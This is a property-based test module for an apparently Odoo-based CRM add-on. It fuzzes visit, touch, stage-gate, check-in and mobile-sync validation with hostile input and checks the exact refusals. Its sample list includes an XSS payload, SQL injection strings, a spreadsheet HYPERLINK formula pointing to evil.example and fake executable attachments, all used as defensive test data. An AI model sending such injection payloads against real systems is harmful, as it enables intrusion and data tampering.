"""Hostile input against every anchor check (issue 7, "Trust"; issue 16, item 2).

Property-based (hypothesis): each check gets random Unicode, control and
format characters, HTML and script, SQL-like strings, 100,000-character
texts, dates from year 1 to 9999 and at DST edges in several timezones,
wrong JSON types, unknown or foreign ids and invalid attachments; and, as
often, input a person may rightly send. Each property knows the rules: for
every example it works out which of them the input breaks. Input that breaks
none must be accepted and read back from the database exactly as sent;
input that breaks some must be refused by one of those, with that rule's
exception and its exact message, and nothing written. "Refused" is not
"right": refusing everything fails, and so does refusing for another reason.

Each example runs in a savepoint rolled back afterwards, and the operation
under test in a savepoint of its own, as a request's transaction would be.
Examples are derandomized (reproducible in CI) and counted by
``--hypothesis-show-statistics`` (scripts/test).
"""

import base64
import html
import io
import re
from contextlib import closing, contextmanager
from datetime import date, datetime, time, timedelta
from urllib.parse import urlencode

import lxml.html
import openpyxl
import pytz
from freezegun import freeze_time
from hypothesis import HealthCheck, Phase, currently_in_test_context, event, example, given, settings
from hypothesis import strategies as st
from markupsafe import Markup

from odoo import fields
from odoo.exceptions import UserError, ValidationError
from odoo.tests import HttpCase, new_test_user, tagged
from odoo.tools import SQL, format_list, html_sanitize

from ..exceptions import InvalidFieldsError
from ..lib import quick_note, text_quality
from .common import NOW, AnchorCase

CI = settings(
    derandomize=True,
    database=None,
    deadline=None,
    print_blob=False,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much],
    # Explaining a failure replays it many times through pytest's traceback formatting: minutes here.
    phases=[Phase.explicit, Phase.generate, Phase.shrink],
    report_multiple_bugs=False,
)
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)>"
FRAGMENTS = [
    SCRIPT,
    "'; DROP TABLE crm_lead; --",
    "' OR '1'='1",
    '=HYPERLINK("http://evil.example","x")',
    "%(name)s %s {0} \\",
    "\u202eRTL\u202c \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "\ufeff\u200b\u200d",
    "👨‍👩‍👧🙂",
    "\x00",
    "\x07\x1b[31m\r\n\t",
    "客户说安装太慢，影响交付",
    "the customer says delivery is too slow",
]
TEXT = st.one_of(
    st.text(max_size=60),  # any Unicode but surrogates, NUL and control characters included
    st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=6)), max_size=6).map("".join),
)
HUGE_TEXT = st.sampled_from(FRAGMENTS[-2:] + [SCRIPT]).map(lambda part: (part * 100_000)[:100_000])
HOSTILE_TEXT = st.one_of(TEXT, TEXT, TEXT, HUGE_TEXT)
LONG_SUMMARY = ("客户说安装太慢，影响交付。" * 10_000)[:100_000]
# What a JSON-RPC call can carry where the add-on expects something else.
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | TEXT,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=4), inner, max_size=3),
    max_leaves=5,
)
RECENT_DAYS = st.dates(min_value=date(2025, 1, 1), max_value=date(2027, 12, 31)).map(str)
IDS = st.lists(st.integers(-5, 2**63), max_size=2)
TIMEZONES = ["America/New_York", "Europe/Berlin", "Asia/Shanghai", "Pacific/Kiritimati", "Pacific/Pago_Pago"]
# Local wall times that do not exist (New York, spring forward) or exist twice (Berlin, fall back).
DST_EDGES = [
    ("America/New_York", datetime(2026, 3, 8, 2, 30)),
    ("Europe/Berlin", datetime(2026, 10, 25, 2, 30)),
]
DATETIMES = st.one_of(
    st.datetimes(),  # year 1 to 9999
    st.sampled_from([local for _zone, local in DST_EDGES]),
    # Around NOW, the moment the examples are frozen at.
    st.integers(-3 * 24 * 60, 400 * 24 * 60).map(lambda minutes: NOW + timedelta(minutes=minutes)),
).map(lambda moment: moment.replace(microsecond=0))
PNG_1PX = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
# Evidence a salesperson may attach: empty, lying about its type, large, oddly named.
ATTACHMENTS = st.fixed_dictionaries(
    {
        # ir.attachment is Odoo's: a NUL in its name fails there, before any anchor check.
        "name": TEXT.map(lambda name: name.replace("\x00", "")),
        "raw": st.sampled_from(
            [b"", b"MZ\x90\x00 not a png", base64.b64decode(PNG_1PX), b"\x00" * 2_000_000]
        ),
        "mimetype": st.sampled_from(["image/png", "application/x-msdownload", "text/html", "", "???"]),
    }
)

# ----------------------------------------------------------------------
# What a person may rightly send
# ----------------------------------------------------------------------

STORABLE_TEXT = st.text(st.characters(exclude_characters="\x00"), max_size=60)
TYPED_TEXT = STORABLE_TEXT.filter(str.strip)  # something, not only spaces
# A pain point that says enough: 4 Chinese characters or 3 words (the team's defaults).
SUMMARIES = st.one_of(
    st.text(st.characters(min_codepoint=0x4E00, max_codepoint=0x9FA5), min_size=4, max_size=40),
    st.lists(st.from_regex(r"[A-Za-z]{2,12}", fullmatch=True), min_size=3, max_size=8).map(" ".join),
)
VALUE_POINTS = st.text(st.characters(exclude_characters="\x00"), min_size=1, max_size=50).filter(str.strip)
PAST = st.integers(0, 60 * 24 * 60).map(lambda minutes: NOW - timedelta(minutes=minutes))
FUTURE = st.integers(1, 365 * 24 * 60).map(lambda minutes: NOW + timedelta(minutes=minutes))
EVIDENCE = st.fixed_dictionaries(
    {
        "name": TYPED_TEXT,
        "raw": st.just(base64.b64decode(PNG_1PX)),
        "mimetype": st.just("image/png"),
    }
)


def either(valid, hostile):
    """``(True, x)`` with ``x`` from ``valid``, or ``(False, x)`` from ``hostile``:
    as many examples of input a person may rightly send as of hostile input."""
    return st.one_of(st.tuples(st.just(True), valid), st.tuples(st.just(False), hostile))


# ----------------------------------------------------------------------
# The rules' messages (the tests run in English)
# ----------------------------------------------------------------------

DATE_MIN, DATE_MAX = date(1900, 1, 1), date(2999, 12, 31)


def unsavable(label):
    return (
        f"“{label}” contains a character that cannot be saved (a NUL or an unpaired surrogate): "
        "remove it and try again."
    )


def out_of_range(label):
    return f"“{label}” must be between 1900-01-01 and 2999-12-31."


def in_future(label):
    return f"“{label}” cannot be in the future: log an action once it has happened."


def in_range(moment):
    return DATE_MIN <= (moment.date() if isinstance(moment, datetime) else moment) <= DATE_MAX


NOT_STARTED = "This check-in is for a day that has not started yet."
NOW_FORMAT = re.compile(r"“now” must be written YYYY-MM-DD HH:MM:SS: .+", re.DOTALL)
DATES_FORMAT = re.compile(r"Dates must be written YYYY-MM-DD: .+", re.DOTALL)
PERIOD_ORDER = "Choose a period whose start is on or before its end."
PERIOD_RANGE = "Choose a period between 1900-01-01 and 2999-12-31."
ID_LISTS = "Filter by teams and salespeople with lists of ids, e.g. [3, 7]."


def as_chatter(text):
    """``text`` as the chatter stores a plain-text message: escaped, in a
    paragraph, sanitized as every message body (control characters dropped)."""
    return str(html_sanitize(Markup("<p>%s</p>") % text))


def matches(expected, message):
    if isinstance(expected, re.Pattern):
        return bool(expected.fullmatch(message))
    return expected == message


TABLES = (
    "crm_anchor_visit",
    "crm_anchor_touch",
    "crm_anchor_checkin",
    "crm_anchor_expectation",
    "mail_message",
    "mail_activity",
    "ir_attachment",
    "calendar_event",
)


class HostileMixin:
    """Runs examples in rolled-back savepoints and sorts their outcomes."""

    def _count_outcome(self, outcome):
        """Counted in the hypothesis statistics, per test."""
        if currently_in_test_context():
            event(outcome)

    @contextmanager
    def _example(self):
        with closing(self.env.cr.savepoint()):
            yield

    def _row_counts(self):
        self.env.flush_all()
        counts = {}
        for table in TABLES:
            self.env.cr.execute(SQL("SELECT count(*) FROM %s", SQL.identifier(table)))
            counts[table] = self.env.cr.fetchone()[0]
        return counts

    def _attempt(self, operation, refusals=()):
        """Run ``operation`` on input that breaks ``refusals``: the ``(exception
        class, message or pattern)`` of each rule it breaks, none when it is
        valid. Valid input must be accepted: ``(result, None)``. Other input
        must be refused by one of its rules, with exactly that class and
        message, and nothing written: ``(None, error)``. Any other exception
        propagates and fails the test."""
        before = self._row_counts()
        try:
            with self.env.cr.savepoint():
                result = operation()
                self.env.flush_all()
        except UserError as error:
            message = str(error.args[0] if error.args else "")
            self.assertTrue(refusals, f"valid input refused: {type(error).__name__}({message!r})")
            self.assertTrue(
                any(type(error) is cls and matches(expected, message) for cls, expected in refusals),
                f"refused with {type(error).__name__}({message[:500]!r}); the rules it breaks: {refusals!r}",
            )
            self.assertEqual(self._row_counts(), before, "a refused write left rows behind")
            self._count_outcome(f"refused ({type(error).__name__})")
            return None, error
        self.assertFalse(refusals, "accepted input that breaks these rules")
        self._count_outcome("accepted")
        return result, None

    def _incomplete(self, items):
        return f"Action loop not closed, please complete: {format_list(self.env, items)}"

    def assertNoMarkupFrom(self, html, text):
        """The user's text in ``html`` is text: none of its tags became elements."""
        tree = lxml.html.fragment_fromstring(str(html or ""), create_parent="div")
        self.assertLessEqual({el.tag for el in tree.iter()}, {"div", "p", "br", "span"}, (html, text))


@tagged("post_install", "-at_install")
class TestHostileInput(HostileMixin, AnchorCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.env["res.lang"]._activate_lang("en_US")
        cls.env = cls.env(context=dict(cls.env.context, lang="en_US"))
        cls.lead = cls._lead()
        cls.other_lead = cls._lead(user=cls.salesman_b)
        cls.visit_lead = cls._lead()
        cls._touch(cls.visit_lead)
        cls.visit_lead.stage_id = cls.stage["visit"]
        # The check-ins' evening part reads the salesperson's planned actions: each example plans its own.
        (cls.lead | cls.other_lead | cls.visit_lead).activity_ids.unlink()

    def _followup(self):
        return fields.Datetime.now().replace(microsecond=0) + timedelta(days=1)

    # ------------------------------------------------------------------
    # Visit: the three elements
    # ------------------------------------------------------------------

    def _visit_text_refusals(self, summary, value, note, action):
        """The rules a submitted visit with these texts breaks."""
        labels = {"Pain Point": summary, "Value Offered": value, "Agreed Action Details": note}
        nul = [(UserError, unsavable(label)) for label, text in labels.items() if "\x00" in text]
        if nul:
            return nul
        missing = [
            label
            for label, present in (
                ("pain point", summary.strip()),
                ("value offered", value.strip()),
                ("agreed action details", action != "other" or note.strip()),
            )
            if not present
        ]
        problems = [self._incomplete(missing)] if missing else []
        if summary.strip() and not text_quality.is_substantial(summary.strip(), 4, 3):
            problems.append("The pain point is too short: write at least 4 Chinese characters or 3 words.")
        if len(value.strip()) > 50:
            problems.append(f"The value offered must fit in 50 characters (it has {len(value.strip())}).")
        return [(InvalidFieldsError, "\n".join(problems))] if problems else []

    @freeze_time(NOW)  # once for all examples: freezing the clock takes time
    @settings(CI, max_examples=50)
    @given(
        case=either(
            st.fixed_dictionaries({"summary": SUMMARIES, "value": VALUE_POINTS, "note": TYPED_TEXT}),
            st.fixed_dictionaries({"summary": HOSTILE_TEXT, "value": HOSTILE_TEXT, "note": HOSTILE_TEXT}),
        ),
        action=st.sampled_from(["send_proposal", "arrange_demo", "provide_samples", "send_quote", "other"]),
        channel=st.sampled_from(["phone", "wechat", "onsite", "email", "video"]),
    )
    # A pasted essay: its repeat-detection key once overflowed the btree index (a server error).
    @example(
        case=(True, {"summary": LONG_SUMMARY, "value": "预装配方案", "note": "现场"}),
        action="arrange_demo",
        channel="onsite",
    )
    def test_visit_submission_with_hostile_text(self, case, action, channel):
        valid, texts = case
        self._count_outcome("valid input" if valid else "hostile input")
        summary, value, note = texts["summary"], texts["value"], texts["note"]
        refusals = self._visit_text_refusals(summary, value, note, action)
        self.assertEqual(refusals if valid else [], [], "the strategy of valid texts made invalid ones")
        with self._example():
            vals = self._visit_vals(
                self.visit_lead,
                pain_summary=summary,
                value_point=value,
                agreed_action=action,
                agreed_action_note=note,
                followup_channel=channel,
                date_next_followup=NOW + timedelta(days=1),
                state="submitted",
            )
            Visit = self.env["crm.anchor.visit"].with_user(self.salesman)
            visit, _error = self._attempt(lambda: Visit.create(vals), refusals)
            if visit:
                visit.invalidate_recordset()
                self.assertEqual(
                    (visit.pain_summary, visit.value_point, visit.agreed_action_note, visit.state),
                    (summary, value, note, "submitted"),
                )
                # The agreed action's activity carries the note as typed (a Char, shown escaped).
                label = dict(Visit._fields["agreed_action"]._description_selection(self.env))[action]
                self.assertEqual(visit.activity_id.summary, " – ".join(filter(None, [label, note])))

    def _visit_dates_refusals(self, date_visit, followup, duration):
        """The rules a visit submitted with these dates and duration breaks, at NOW."""
        ranges = [
            (UserError, out_of_range(label))
            for label, moment in (("Next Follow-up", followup), ("Visit Date", date_visit))
            if not in_range(moment)
        ]
        if ranges:
            return ranges
        refusals = []
        if not 0 <= duration <= 24:  # NaN too
            refusals.append((ValidationError, "A visit lasts between 0 and 24 hours."))
        if date_visit > NOW + timedelta(minutes=10):
            refusals.append((ValidationError, in_future("Visit Date")))
        if followup <= NOW:
            refusals.append((InvalidFieldsError, "The next follow-up must be in the future."))
        return refusals

    @freeze_time(NOW)  # once for all examples: freezing the clock takes time
    @settings(CI, max_examples=40)
    @given(
        case=either(
            st.tuples(PAST, FUTURE, st.floats(0, 24)),
            st.tuples(DATETIMES, DATETIMES, st.floats(allow_nan=True, allow_infinity=True)),
        ),
        tz=st.sampled_from(TIMEZONES),
    )
    def test_visit_dates_durations_and_timezones(self, case, tz):
        valid, (date_visit, followup, duration) = case
        self._count_outcome("valid input" if valid else "hostile input")
        refusals = self._visit_dates_refusals(date_visit, followup, duration)
        self.assertEqual(refusals if valid else [], [], "the strategy of valid dates made invalid ones")
        with self._example():
            self.salesman.tz = tz
            vals = self._visit_vals(
                self.visit_lead,
                date_visit=date_visit,
                date_next_followup=followup,
                visit_duration=duration,
                state="submitted",
            )
            Visit = self.env["crm.anchor.visit"].with_user(self.salesman)
            visit, _error = self._attempt(lambda: Visit.create(vals), refusals)
            if visit:
                visit.invalidate_recordset()
                self.assertEqual((visit.date_visit, visit.date_next_followup), (date_visit, followup))
                self.assertEqual(visit.visit_duration, duration)
                # The activity is due on the follow-up's day where the salesperson is.
                local = pytz.utc.localize(followup).astimezone(pytz.timezone(tz))
                self.assertEqual(visit.activity_id.date_deadline, local.date())

    @settings(CI, max_examples=20)
    @given(case=either(TYPED_TEXT, st.one_of(HOSTILE_TEXT, JSON)))
    def test_visit_reopen_reason(self, case):
        valid, reason = case
        self._count_outcome("valid input" if valid else "hostile input")
        if not isinstance(reason, str) or not reason.strip():
            refusals = [(UserError, "Give the reason for reopening the visit.")]
        elif "\x00" in reason:
            refusals = [(UserError, unsavable("Reason"))]
        else:
            refusals = []
        self.assertEqual(refusals if valid else [], [], "the strategy of valid reasons made invalid ones")
        with self._example():
            visit = self._visit(self.visit_lead, date_next_followup=self._followup(), state="submitted")
            messages = visit.message_ids
            _done, error = self._attempt(
                lambda: visit.with_user(self.manager).action_reopen(reason), refusals
            )
            if not error:
                self.assertEqual(visit.state, "draft")
                logged = (visit.message_ids - messages).filtered(lambda m: "reopened" in str(m.body))
                self.assertEqual(
                    [str(message.body) for message in logged],
                    [as_chatter(f"Visit reopened by {self.manager.name}. Reason: {reason}")],
                )
                self.assertNoMarkupFrom(logged.body, reason)

    # ------------------------------------------------------------------
    # Touch: customer's words and evidence
    # ------------------------------------------------------------------

    def _touch_refusals(self, words, evidence, moment):
        """The rules a touch logged with these words, evidence and date breaks, at NOW."""
        refusals = [(UserError, unsavable("Customer's Own Words"))] if "\x00" in words else []
        if not in_range(moment):
            refusals.append((UserError, out_of_range("Date")))
        if refusals:
            return refusals
        if moment > NOW + timedelta(minutes=10):
            refusals.append((ValidationError, in_future("Date")))
        missing = [
            label
            for label, present in (
                ("customer's own words", words.strip()),
                ("evidence (call screenshot or chat excerpt)", evidence),
            )
            if not present
        ]
        if missing:
            refusals.append((ValidationError, self._incomplete(missing)))
        return refusals

    @freeze_time(NOW)  # once for all examples: freezing the clock takes time
    @settings(CI, max_examples=30)
    @given(
        case=either(
            st.tuples(TYPED_TEXT, st.lists(EVIDENCE, min_size=1, max_size=2), PAST),
            st.tuples(HOSTILE_TEXT, st.lists(ATTACHMENTS, max_size=2), DATETIMES),
        )
    )
    def test_touch_with_hostile_words_and_evidence(self, case):
        valid, (words, evidence, date) = case
        self._count_outcome("valid input" if valid else "hostile input")
        refusals = self._touch_refusals(words, evidence, date)
        self.assertEqual(refusals if valid else [], [], "the strategy of valid touches made invalid ones")
        with self._example():
            attachments = self.env["ir.attachment"].with_user(self.salesman).create(evidence)
            vals = {
                "lead_id": self.lead.id,
                "user_id": self.salesman.id,
                "method": "wechat",
                "date": date,
                "customer_words": words,
                "evidence_attachment_ids": [(6, 0, attachments.ids)],
                "state": "done",
            }
            Touch = self.env["crm.anchor.touch"].with_user(self.salesman)
            touch, _error = self._attempt(lambda: Touch.create(vals), refusals)
            if touch:
                touch.invalidate_recordset()
                self.assertEqual((touch.customer_words, touch.date, touch.date_logged), (words, date, NOW))
                self.assertEqual(touch.evidence_attachment_ids, attachments)
                self.assertEqual(self.lead.date_first_touch, date)

    def test_refusals_are_in_the_users_language(self):
        self.env["res.lang"]._activate_lang("zh_CN")
        Visit = self.env["crm.anchor.visit"].with_user(self.salesman).with_context(lang="zh_CN")
        vals = self._visit_vals(
            self.visit_lead, pain_summary="客户说安装\x00太慢", visit_duration=float("nan")
        )
        with self.assertRaises(UserError) as caught:
            Visit.create(vals)
        self.assertIn("含有无法保存的字符", str(caught.exception))
        with self.assertRaises(UserError) as caught:
            Visit.create(dict(vals, pain_summary="客户说安装太慢"))
        self.assertIn("一次拜访的时长应在 0 到 24 小时之间", str(caught.exception))
        with self.assertRaises(UserError) as caught:
            self.env["crm.anchor.dashboard"].with_context(lang="zh_CN").get_data("0001-01-01", "2026-01-31")
        self.assertIn("请选择 1900-01-01 至 2999-12-31 之间的时间段", str(caught.exception))

    def test_evidence_that_is_not_base64_never_reaches_the_touch(self):
        """Odoo refuses such an attachment itself (ir.attachment decodes ``datas``),
        before any anchor check: the touch then has no evidence and is refused."""
        with self.assertRaises(ValueError):
            self.env["ir.attachment"].create({"name": "x.png", "datas": "not base64!"})
        Touch = self.env["crm.anchor.touch"].with_user(self.salesman)
        _touch, error = self._attempt(
            lambda: Touch.create(
                {"lead_id": self.lead.id, "customer_words": "客户说价格太高", "state": "done"}
            ),
            [(ValidationError, self._incomplete(["evidence (call screenshot or chat excerpt)"]))],
        )
        self.assertIsNotNone(error)

    # ------------------------------------------------------------------
    # Stage gates: forced moves and documents
    # ------------------------------------------------------------------

    @settings(CI, max_examples=25)
    @given(
        stage=st.sampled_from(["lead", "visit", "proposal", "quote", "signed", "delivery"]),
        case=either(TYPED_TEXT, HOSTILE_TEXT),
        documents=st.lists(ATTACHMENTS, max_size=2),
    )
    def test_stage_gates_forced_with_a_hostile_reason(self, stage, case, documents):
        valid, reason = case
        self._count_outcome("valid input" if valid else "hostile input")
        if not reason.strip():
            refusals = [(ValidationError, "Give the reason for forcing the stage.")]
        elif "\x00" in reason:
            refusals = [(UserError, unsavable("Reason"))]
        else:
            refusals = []
        self.assertEqual(refusals if valid else [], [], "the strategy of valid reasons made invalid ones")
        # The lead is in Visit with its first touch, no visit submitted, a quote if documents.
        missing = {
            "proposal": "Visit submitted",
            "quote": "Proposal sent",
            "signed": None if documents else "Quote sent",
            "delivery": "Contract signed",
        }.get(stage)
        with self._example():
            lead = self.visit_lead
            attachments = self.env["ir.attachment"].create(documents)
            lead.anchor_quote_attachment_ids = attachments
            Wizard = self.env["crm.anchor.stage.force"].with_user(self.manager)
            messages = lead.message_ids

            def force():
                wizard = Wizard.create(
                    {"lead_id": lead.id, "stage_id": self.stage[stage].id, "reason": reason}
                )
                return wizard.action_confirm()

            _done, error = self._attempt(force, refusals)
            if not error:
                self.assertEqual(lead.stage_id, self.stage[stage])
                logged = (lead.message_ids - messages).filtered(lambda m: "Stage gate forced" in str(m.body))
                expected = (
                    f"Stage gate forced into {self.stage[stage].name} by {self.manager.name}. "
                    f"Missing evidence: {missing}. Reason: {reason}"
                )
                self.assertEqual(
                    [str(message.body) for message in logged],
                    [as_chatter(expected)] if missing else [],
                )
                for message in lead.message_ids - messages:
                    self.assertNoMarkupFrom(message.body, reason)

    # ------------------------------------------------------------------
    # Daily check-ins
    # ------------------------------------------------------------------

    def _deadline(self, day, hour, tz):
        """``hour`` o'clock of ``day`` in ``tz``, as naive UTC."""
        local = pytz.timezone(tz).localize(datetime.combine(day, time.min) + timedelta(hours=hour))
        return local.astimezone(pytz.utc).replace(tzinfo=None)

    def _checkin_refusals(self, day, tz, need, with_partner, tops, planned):
        """The rules each step of a check-in breaks, at NOW: opening it, the
        morning part, the evening part."""
        if not in_range(day):
            return [(UserError, out_of_range("Date"))], None, None
        started = day <= pytz.utc.localize(NOW).astimezone(pytz.timezone(tz)).date()
        if "\x00" in need:
            morning = [(UserError, unsavable("Core Need"))]
        else:
            missing = [
                label
                for label, present in (
                    ("today's key customer", with_partner),
                    ("its core need", need.strip()),
                )
                if not present
            ]
            morning = (
                [(UserError, f"Morning check-in incomplete: {format_list(self.env, missing)}")]
                if missing
                else []
            )
        gaps = [name for name in tops if name not in planned]
        if len(tops) < 3:
            evening = [(UserError, "Choose tomorrow's TOP 3 opportunities first.")]
        elif gaps:
            names = format_list(self.env, ["门窗五金集采"] * len(gaps))
            evening = [
                (
                    UserError,
                    f"Action loop not closed, please complete: agree an action with a reminder for {names}",
                )
            ]
        else:
            evening = []
        return (
            [],
            morning or ([] if started else [(UserError, NOT_STARTED)]),
            evening or ([] if started else [(UserError, NOT_STARTED)]),
        )

    @freeze_time(NOW)  # once for all examples: freezing the clock takes time
    @settings(CI, max_examples=20)
    @given(
        case=either(
            st.fixed_dictionaries(
                {
                    "need": TYPED_TEXT,
                    "with_partner": st.just(True),
                    "tops": st.permutations(["lead", "other_lead", "visit_lead"]),
                    "planned": st.just(["lead", "other_lead", "visit_lead"]),
                    # Yesterday, today or tomorrow where it is already tomorrow (Kiritimati, Asia).
                    "day": st.sampled_from([NOW.date() - timedelta(days=1), NOW.date()]),
                    "tz": st.sampled_from(TIMEZONES[:-1]),
                }
            ),
            st.fixed_dictionaries(
                {
                    "need": HOSTILE_TEXT,
                    "with_partner": st.booleans(),
                    "tops": st.lists(
                        st.sampled_from(["lead", "other_lead", "visit_lead"]), max_size=4, unique=True
                    ),
                    "planned": st.lists(st.sampled_from(["lead", "other_lead", "visit_lead"]), unique=True),
                    "day": st.one_of(
                        st.dates(),
                        st.sampled_from([local.date() for _zone, local in DST_EDGES]),
                        st.integers(-2, 2).map(lambda days: NOW.date() + timedelta(days=days)),
                    ),
                    "tz": st.sampled_from(TIMEZONES),
                }
            ),
        )
    )
    def test_checkins_with_hostile_input(self, case):
        valid, values = case
        self._count_outcome("valid input" if valid else "hostile input")
        need, tops, day, tz = values["need"], values["tops"], values["day"], values["tz"]
        opening, morning_refusals, evening_refusals = self._checkin_refusals(
            day, tz, need, values["with_partner"], tops, values["planned"]
        )
        if valid:
            self.assertEqual(
                [opening, morning_refusals, evening_refusals], [[], [], []], "the valid check-in is not"
            )
        with self._example():
            self.salesman.tz = tz
            # Tomorrow's agreed actions the salesperson planned on these opportunities.
            for name in values["planned"]:
                getattr(self, name).sudo().activity_schedule(
                    "mail.mail_activity_data_call",
                    date_deadline=min(day, DATE_MAX) + timedelta(days=1),
                    user_id=self.salesman.id,
                )
            Checkin = self.env["crm.anchor.checkin"]
            checkin, _error = self._attempt(
                lambda: Checkin.create({"user_id": self.salesman.id, "team_id": self.team.id, "date": day}),
                opening,
            )
            if not checkin:
                return
            mine = checkin.with_user(self.salesman)
            partner = self.customer if values["with_partner"] else self.env["res.partner"]

            def morning():
                mine.write({"morning_partner_id": partner.id, "morning_need": need})
                return mine.action_checkin_morning()

            _done, error = self._attempt(morning, morning_refusals)
            if not error:
                checkin.invalidate_recordset()
                self.assertEqual((checkin.morning_need, checkin.date_morning_done), (need, NOW))
                deadline = self._deadline(day, self.team.anchor_morning_deadline, tz)
                self.assertEqual(checkin.morning_state, "on_time" if deadline >= NOW else "late")

            def evening():
                mine.write({"top_lead_ids": [(6, 0, [getattr(self, name).id for name in tops])]})
                return mine.action_checkin_evening()

            _done, error = self._attempt(evening, evening_refusals)
            if not error:
                checkin.invalidate_recordset()
                self.assertEqual(checkin.date_evening_done, NOW)
                deadline = self._deadline(day, self.team.anchor_evening_deadline, tz)
                self.assertEqual(checkin.evening_state, "on_time" if deadline >= NOW else "late")

    # ------------------------------------------------------------------
    # Mobile sync
    # ------------------------------------------------------------------

    def _mobile_entry(self, uuid):
        return {
            "client_uuid": uuid,
            "lead_id": self.visit_lead.id,
            "date_visit": fields.Datetime.to_string(fields.Datetime.now() - timedelta(hours=1)),
            "pain_category_id": self.category_price.id,
            # Each entry its own pain point: a repeated one is refused.
            "pain_summary": f"客户说安装太慢，影响交付 {uuid}",
            "value_point": "预装配方案，安装时间减半",
            "agreed_action": "arrange_demo",
            "agreed_action_note": "",
            "date_next_followup": fields.Datetime.to_string(self._followup()),
            "followup_channel": "onsite",
            "quick_note": "客户嫌安装慢，约明天现场演示",
            "photo": None,
            "remind": True,
        }

    def _entry_values(self):
        """For each key of an entry, what a broken or hostile page could send."""
        ids = st.one_of(
            st.sampled_from(
                [self.visit_lead.id, self.other_lead.id, 0, -1, 2**31, 2**63, "12", "abc", True, 1.5]
            ),
            JSON,
        )
        dates = st.one_of(
            DATETIMES.map(fields.Datetime.to_string),
            st.sampled_from(["tomorrow", "2026-02-30 10:00:00", "2026-03-08T02:30:00Z", ""]),
            JSON,
        )
        photos = st.one_of(
            st.sampled_from(
                [
                    None,
                    {"name": "签收单.png", "data": PNG_1PX},
                    {"name": SCRIPT, "data": "data:image/png;base64," + PNG_1PX},
                    {"data": "not base64!"},
                    {"data": ""},
                    {"data": base64.b64encode(b"MZ\x90\x00").decode()},
                    {"data": base64.b64encode(b"\x00" * 2_000_000).decode()},
                    "photo.png",
                ]
            ),
            JSON,
        )
        text = st.one_of(HOSTILE_TEXT, JSON)
        return {
            "client_uuid": st.one_of(st.uuids().map(str), TEXT, JSON),
            "lead_id": ids,
            "pain_category_id": ids,
            "date_visit": dates,
            "date_next_followup": dates,
            "pain_summary": text,
            "value_point": text,
            "agreed_action": st.one_of(st.sampled_from(["send_quote", "bogus", " other "]), text),
            "agreed_action_note": text,
            "followup_channel": st.one_of(st.sampled_from(["phone", "fax"]), text),
            "quick_note": text,
            "photo": photos,
            "remind": JSON,
        }

    @freeze_time(NOW)  # once for all examples: freezing the clock takes time
    @settings(CI, max_examples=40)
    @given(data=st.data())
    def test_mobile_sync_with_malformed_entries(self, data):
        values = self._entry_values()
        entries, broken = [], []
        for index in range(data.draw(st.integers(1, 3), "entries")):
            entry = self._mobile_entry(f"hostile-{index}")
            keys = data.draw(st.sets(st.sampled_from(sorted(values)), max_size=4), "broken keys")
            for key in keys:
                if data.draw(st.booleans(), f"drop {key}"):
                    entry.pop(key)
                else:
                    entry[key] = data.draw(values[key], key)
            sent = data.draw(st.one_of(st.just(entry), JSON), "entry") if index == 2 else entry
            entries.append(sent)
            broken.append(bool(keys) or sent is not entry)
        with self._example():
            Visit = self.env["crm.anchor.visit"].sudo()
            before = self._row_counts()
            # A list of entries is never refused as a whole: each entry gets its outcome.
            results = self.env["crm.anchor.mobile"].with_user(self.salesman).sync_entries(entries)
            self.assertEqual(len(results), len(entries))
            if all(result["status"] == "refused" for result in results):
                self.assertEqual(self._row_counts(), before, "a refused entry left rows behind")
            received = set()
            for entry, is_broken, result in zip(entries, broken, results, strict=True):
                self._count_outcome(f"{'broken' if is_broken else 'valid'} entry {result['status']}")
                if not is_broken:
                    # An entry as the page sends it is received, whatever the others hold.
                    self.assertEqual(result["status"], "created", result["message"])
                if result["status"] == "refused":
                    self.assertTrue(
                        any(matches(expected, result["message"]) for expected in self.MOBILE_REFUSALS),
                        result["message"],
                    )
                    self.assertFalse(result["visit_id"])
                    continue
                # Only a second entry with the identifier of one received before is a duplicate.
                uuid = entry["client_uuid"].strip()
                self.assertEqual(result["status"], "duplicate" if uuid in received else "created")
                received.add(uuid)
                visit = Visit.browse(result["visit_id"])
                visit.invalidate_recordset()
                self.assertEqual(visit.client_uuid, uuid)
                self.assertEqual(visit.user_id, self.salesman)
                if result["status"] == "created":
                    # Stored as typed, but for the spaces around (the page's fields are trimmed).
                    for key in ("pain_summary", "value_point", "agreed_action_note"):
                        self.assertEqual(visit[key] or "", (entry.get(key) or "").strip())
            # A refused identifier may not even be searchable (a NUL character).
            created = Visit.search([("client_uuid", "in", list(received))])
            self.assertEqual(
                set(created.ids), {r["visit_id"] for r in results if r["status"] in ("created", "duplicate")}
            )

    # Every reason a malformed entry may be refused for, as the page shows it.
    MOBILE_REFUSALS = [
        "This entry has no identifier, so it cannot be received safely.",
        "This entry's identifier is not valid, so it cannot be received safely.",
        re.compile(
            r"This entry is malformed \((pain_summary|value_point|agreed_action|agreed_action_note"
            r"|followup_channel|quick_note) is not text\)\."
        ),
        re.compile(r"Unknown (Agreed Action|Follow-up Channel) “.+”\.", re.DOTALL),
        "This entry is malformed (the photo is not {name, data}).",
        "The opportunity of this visit no longer exists.",
        re.compile(
            r"Uh-oh! Looks like you have stumbled upon some top-secret records\.\n\n"
            r"Sorry, Rep A \(id=\d+\) doesn't have 'read' access to:\n- Lead/Opportunity \(crm\.lead\).*",
            re.DOTALL,
        ),
        "The photo could not be read; take it again.",
        "The photo must be an image.",
        re.compile(r"Unreadable date: .*", re.DOTALL),
        *(
            unsavable(label)
            for label in ("Pain Point", "Value Offered", "Agreed Action Details", "Client Entry ID")
        ),
        out_of_range("Visit Date"),
        out_of_range("Next Follow-up"),
        in_future("Visit Date"),
        # The anchor check: one line per problem.
        re.compile(
            r"((Action loop not closed, please complete: .+"
            r"|The pain point is too short: write at least 4 Chinese characters or 3 words\."
            r"|The value offered must fit in 50 characters \(it has \d+\)\."
            r"|The next follow-up must be in the future\.)(\n|$))+"
        ),
    ]

